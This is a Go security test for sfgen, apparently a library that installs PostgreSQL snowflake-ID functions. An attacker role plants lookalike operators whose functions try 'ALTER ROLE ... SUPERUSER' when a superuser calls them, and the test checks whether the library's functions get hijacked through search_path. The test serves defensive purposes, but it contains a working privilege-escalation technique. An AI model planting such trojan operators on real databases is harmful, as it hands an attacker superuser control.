package attack

import (
	"context"
	"fmt"
	"strings"
	"testing"
	"time"

	snowflake "github.com/sfgen/sfgen"
	"github.com/sfgen/sfgen/internal/pgident"
	"github.com/sfgen/sfgen/internal/sqlgen"
)

// A lookalike is an operator the attacker creates with the exact argument
// types of one that sfgen's bodies use, so that an unqualified operator
// resolves to it where the attacker's schema is searched first, or where
// pg_catalog has no operator of exactly those types (it then wins over
// pg_catalog's, which would need an implicit cast).
type lookalike struct {
	op, left, right, result string
	wrong                   string // what it returns, an SQL expression of type result
}

var (
	// gapLookalikes have argument types that pg_catalog has no operator
	// for: they hijack release 1 under the default search_path, where
	// pg_catalog is searched first.
	gapLookalikes = []lookalike{
		{"&", "bigint", "integer", "bigint", "7"},                     // decompose, node
		{"*", "bigint", "interval", "interval", "interval '7 ms'"},    // timestamp
		{"*", "numeric", "integer", "numeric", "7"},                   // first_id, last_id
		{"<=", "numeric", "bigint", "boolean", "false"},               // first_id
		{">", "numeric", "bigint", "boolean", "false"},                // first_id
		{"<", "numeric", "bigint", "boolean", "false"},                // last_id
		{">=", "numeric", "bigint", "boolean", "false"},               // last_id
		{"|", "bigint", "integer", "bigint", "7"},                     // last_id
		{"=", "oid", "regprocedure", "boolean", "false"},              // set_node's error path
		{"*", "integer", "double precision", "double precision", "7"}, // (next_id qualifies it)
	}
	// exactLookalikes repeat operators pg_catalog has: they hijack only a
	// search_path that names pg_catalog after the attacker's schema.
	exactLookalikes = []lookalike{
		{"<", "bigint", "bigint", "boolean", "false"},
		{">", "bigint", "bigint", "boolean", "false"},
		{"<", "integer", "integer", "boolean", "false"},
		{">", "integer", "integer", "boolean", "false"},
		{"<", "bigint", "integer", "boolean", "false"},
		{"-", "bigint", "bigint", "bigint", "7"},
		{"+", "bigint", "bigint", "bigint", "7"},
		{"<<", "bigint", "integer", "bigint", "7"},
		{">>", "bigint", "integer", "bigint", "7"},
		{"|", "bigint", "bigint", "bigint", "7"},
		{"+", "timestamp with time zone", "interval", "timestamp with time zone", "'1970-01-01 00:00:00.007+00'"},
	}
	allLookalikes = append(append([]lookalike(nil), gapLookalikes...), exactLookalikes...)
)

// noticePrefix starts the notice each look-alike raises when called.
const noticePrefix = "sfgen-attack: look-alike "

// plantLookalikes creates ops in schema as s's role: each is backed by a
// SECURITY INVOKER function that raises a notice naming itself, tries to
// make escalate a superuser (which succeeds when a superuser is the one
// calling, and is swallowed otherwise), and returns a wrong value.
func plantLookalikes(t testing.TB, s *session, schema, escalate string, ops []lookalike) {
	t.Helper()
	var b strings.Builder
	for i, o := range ops {
		fn := qualify(schema, fmt.Sprintf("sfgen_attack_lookalike_%d", i))
		sig := fmt.Sprintf("%s(%s, %s)", o.op, o.left, o.right)
		fmt.Fprintf(&b, `CREATE FUNCTION %s(a %s, b %s) RETURNS %s
LANGUAGE plpgsql SECURITY INVOKER AS $f$
BEGIN
    RAISE NOTICE %s;
    BEGIN
        EXECUTE %s;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    RETURN %s;
END
$f$;
CREATE OPERATOR %s.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %s);
`, fn, o.left, o.right, o.result,
			pgident.QuoteLiteral(noticePrefix+sig),
			pgident.QuoteLiteral("ALTER ROLE "+pgident.Quote(escalate)+" SUPERUSER"),
			o.wrong, pgident.Quote(schema), o.op, o.left, o.right, fn)
	}
	s.exec(t, b.String())
}

// hijacked lists the look-alikes that s's session called, from its
// notices.
func hijacked(s *session) string {
	var ops []string
	for _, n := range s.takeNotices() {
		if op, ok := strings.CutPrefix(n, noticePrefix); ok {
			ops = append(ops, op)
		}
	}
	if len(ops) == 0 {
		return "no look-alike was called"
	}
	return "look-alikes called: " + summary(ops)
}

// The worked example: 4194439168 is (1288834975657, 1, 1, 0).
const (
	exampleID = 4194439168
	exampleMs = 1288834975657
)

// callAll calls every function of sfgen's in schema on s, as a user
// would, and returns what differs from the Go oracle (node is the node
// sfgen was installed with).
func callAll(t testing.TB, s *session, schema string, node [2]int64) []string {
	t.Helper()
	ctx := context.Background()
	var wrong []string
	bad := func(format string, args ...any) { wrong = append(wrong, fmt.Sprintf(format, args...)) }
	fn := func(name string) string { return qualify(schema, name) }
	tw := snowflake.Twitter()

	want, err := tw.Decompose(exampleID)
	if err != nil {
		t.Fatal(err)
	}
	var ts, dc, m, seq int64
	if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT * FROM %s(%d)", fn("snowflake_decompose"), exampleID)).Scan(&ts, &dc, &m, &seq); err != nil {
		bad("snowflake_decompose(%d): %v", exampleID, err)
	} else if ts != want.Timestamp || dc != want.Datacenter || m != want.Machine || seq != want.Sequence {
		bad("snowflake_decompose(%d) = (%d, %d, %d, %d), want (%d, %d, %d, %d)", exampleID, ts, dc, m, seq,
			want.Timestamp, want.Datacenter, want.Machine, want.Sequence)
	}

	var at time.Time
	if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT %s(%d)", fn("snowflake_timestamp"), exampleID)).Scan(&at); err != nil {
		bad("snowflake_timestamp(%d): %v", exampleID, err)
	} else if !at.Equal(want.Time()) {
		bad("snowflake_timestamp(%d) = %s, want %s", exampleID, at.UTC().Format(time.RFC3339Nano), want.Time().Format(time.RFC3339Nano))
	}

	wantID, err := tw.Compose(exampleMs, 1, 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	var id int64
	if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT %s(%d, 1, 1, 0)", fn("snowflake_compose"), exampleMs)).Scan(&id); err != nil {
		bad("snowflake_compose(%d, 1, 1, 0): %v", exampleMs, err)
	} else if id != int64(wantID) {
		bad("snowflake_compose(%d, 1, 1, 0) = %d, want %d", exampleMs, id, wantID)
	}

	if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT * FROM %s()", fn("snowflake_node"))).Scan(&dc, &m); err != nil {
		bad("snowflake_node(): %v", err)
	} else if dc != node[0] || m != node[1] {
		bad("snowflake_node() = (%d, %d), want (%d, %d)", dc, m, node[0], node[1])
	}

	lit := "'" + want.Time().Format("2006-01-02 15:04:05.000Z07:00") + "'"
	for _, r := range []struct {
		name    string
		dc, m   int64
		seqBits int64
	}{
		{"snowflake_first_id", 0, 0, 0},
		{"snowflake_last_id", tw.Max(snowflake.FieldDatacenter), tw.Max(snowflake.FieldMachine), tw.Max(snowflake.FieldSequence)},
	} {
		w, err := tw.Compose(exampleMs, r.dc, r.m, r.seqBits)
		if err != nil {
			t.Fatal(err)
		}
		if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT %s(%s)", fn(r.name), lit)).Scan(&id); err != nil {
			bad("%s(%s): %v", r.name, lit, err)
		} else if id != int64(w) {
			bad("%s(%s) = %d, want %d", r.name, lit, id, w)
		}
	}

	// Twice: the second call after a pause, when the slow path catches up.
	for i := 0; i < 2; i++ {
		if i == 1 {
			time.Sleep(10 * time.Millisecond)
		}
		var before, after time.Time
		if err := s.QueryRowContext(ctx, fmt.Sprintf("SELECT pg_catalog.clock_timestamp(), %s(), pg_catalog.clock_timestamp()", fn("snowflake_next_id"))).Scan(&before, &id, &after); err != nil {
			bad("snowflake_next_id(): %v", err)
			continue
		}
		if msg := checkNewID(id, node, before, after); msg != "" {
			bad("snowflake_next_id() = %d: %s", id, msg)
		}
	}
	return wrong
}

// checkNewID says what is wrong with id, made by snowflake_next_id() for
// node between before and after (by the server's clock), or "".
func checkNewID(id int64, node [2]int64, before, after time.Time) string {
	p, err := snowflake.Twitter().Decompose(snowflake.ID(id))
	if err != nil {
		return err.Error()
	}
	var msgs []string
	if p.Datacenter != node[0] || p.Machine != node[1] {
		msgs = append(msgs, fmt.Sprintf("node %d/%d, want %d/%d", p.Datacenter, p.Machine, node[0], node[1]))
	}
	// The generator's time trails the clock by at most ~9 ms and is never
	// ahead of it (no borrowing at this rate); a second is generous.
	if ms := p.Timestamp; ms > after.UnixMilli() || ms < before.UnixMilli()-1000 {
		msgs = append(msgs, fmt.Sprintf("time %s outside the call's %s..%s",
			p.Time().Format("15:04:05.000"), before.UTC().Format("15:04:05.000"), after.UTC().Format("15:04:05.000")))
	}
	return strings.Join(msgs, "; ")
}

// A lookalikeSetup is where the attacker plants its look-alikes and what
// search_path the superuser's session has.
type lookalikeSetup struct {
	name string
	// sfgen is the schema sfgen is installed in.
	sfgen string
	// inPublic: the attacker has CREATE on public (the default before
	// PostgreSQL 15) and plants there; else in a schema of its own.
	inPublic bool
	// searchPath is what the superuser SETs ("" keeps the default,
	// "$user", public); $ATTACKER stands for the attacker's schema.
	searchPath string
}

// attackLookalikes: mallory plants look-alike operators, then a superuser
// calls every sfgen function. It succeeded if any result differs from the
// Go oracle (or errs), or mallory is now a superuser.
func attackLookalikes(t *testing.T, e *env, release int, c lookalikeSetup) (bool, string) {
	t.Helper()
	node := [2]int64{1, 2}
	e.mustInstall(release, sqlgen.Options{Layout: snowflake.Twitter(), Schema: c.sfgen, Datacenter: node[0], Machine: node[1]})

	mallory := e.role("mallory")
	where := mallory
	if c.inPublic {
		where = "public"
		e.exec("GRANT CREATE ON SCHEMA public TO " + pgident.Quote(mallory))
	} else {
		e.exec(fmt.Sprintf("CREATE SCHEMA %[1]s AUTHORIZATION %[1]s", pgident.Quote(mallory)))
	}
	plantLookalikes(t, e.connect(mallory), where, mallory, allLookalikes)

	victim := e.connect("")
	if c.searchPath != "" {
		victim.exec(t, "SET search_path = "+strings.ReplaceAll(c.searchPath, "$ATTACKER", pgident.Quote(mallory)))
	}
	wrong := callAll(t, victim, c.sfgen, node)
	super := e.isSuperuser(mallory)
	details := hijacked(victim)
	if super {
		details = "mallory (NOSUPERUSER) is now a superuser; " + details
	}
	if len(wrong) > 0 {
		details += "; wrong results: " + strings.Join(wrong, "; ")
	}
	return super || len(wrong) > 0, details
}

func TestLookalikeOperators(t *testing.T) {
	t.Parallel()
	for _, c := range []lookalikeSetup{
		{name: "create_on_public/default_search_path", sfgen: "public", inPublic: true},
		{name: "create_on_public/search_path_public_pg_catalog", sfgen: "public", inPublic: true, searchPath: "public, pg_catalog"},
		{name: "own_schema/search_path_attacker_pg_catalog", sfgen: "ids", searchPath: "$ATTACKER, pg_catalog"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			forEachRelease(t, func(t *testing.T, release int) {
				t.Parallel()
				ok, details := attackLookalikes(t, newEnv(t), release, c)
				judge(t, release, ok, details)
			})
		})
	}
}
